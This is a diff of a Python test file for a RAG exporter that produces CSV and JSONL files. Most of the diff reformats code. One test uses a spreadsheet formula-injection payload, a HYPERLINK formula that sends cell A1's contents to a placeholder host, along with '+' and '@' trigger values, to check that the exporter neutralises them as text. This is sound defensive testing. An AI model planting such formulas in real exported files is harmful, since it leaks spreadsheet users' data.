@@ -1,4 +1,5 @@
 """rag/export.py: CSV for spreadsheets (BOM, formula guard) and lossless JSONL, streamed in blocks."""
+
 from __future__ import annotations
 
 import csv
@@ -12,9 +13,18 @@ from rag.store import Hit
 
 def _hit(content: str, *, index: int = 0, pages: list[int] | None = None, knowledge: str = "财务") -> Hit:
     return Hit(
-        id=uuid.UUID(int=index + 1), content=content, score=1.0,
-        metadata={"knowledge": knowledge, "original_filename": "年报 2024.pdf", "path": None,
-                  "pages": pages or [1], "page": (pages or [1])[0], "chunk_index": index, "tokens": 7},
+        id=uuid.UUID(int=index + 1),
+        content=content,
+        score=1.0,
+        metadata={
+            "knowledge": knowledge,
+            "original_filename": "年报 2024.pdf",
+            "path": None,
+            "pages": pages or [1],
+            "page": (pages or [1])[0],
+            "chunk_index": index,
+            "tokens": 7,
+        },
     )
 
 
@@ -41,8 +51,12 @@ def test_csv_has_a_bom_and_parses_back_with_chinese_intact() -> None:
 
 def test_csv_cells_that_would_run_as_formulas_are_text_and_jsonl_keeps_them() -> None:
     attack = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
-    hit = Hit(id=uuid.UUID(int=9), content=attack, score=1.0,
-              metadata={"knowledge": "+kb", "original_filename": "@evil.pdf", "pages": [1], "chunk_index": 0})
+    hit = Hit(
+        id=uuid.UUID(int=9),
+        content=attack,
+        score=1.0,
+        metadata={"knowledge": "+kb", "original_filename": "@evil.pdf", "pages": [1], "chunk_index": 0},
+    )
     (row,) = csv.DictReader(io.StringIO(export.chunks_csv([hit]).decode("utf-8-sig"), newline=""))
     assert (row["content"], row["knowledge"], row["original_filename"]) == ("'" + attack, "'+kb", "'@evil.pdf")
     for harmless in ("营业收入", " =not at the start", "1,000", ""):
